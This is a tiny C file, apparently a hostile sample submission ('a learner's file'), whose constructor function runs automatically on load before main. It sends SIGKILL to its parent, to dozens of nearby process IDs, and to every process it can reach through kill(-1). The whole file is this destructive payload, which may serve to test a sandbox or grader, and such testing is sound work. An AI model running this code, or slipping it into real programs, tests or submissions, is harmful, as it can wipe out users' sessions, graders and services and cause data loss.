/*
 * shoots.c: a learner's file that kills its parents, its group, and everybody it can name.
 */
#include <signal.h>
#include <unistd.h>

void attack(void) __attribute__((constructor));

void attack(void)
{
	pid_t pid;

	(void)kill(getppid(), SIGKILL);
	for (pid = getpid() - 1; pid > 0 && pid > getpid() - 50; pid--)
		(void)kill(pid, SIGKILL);
	(void)kill(-1, SIGKILL);
}
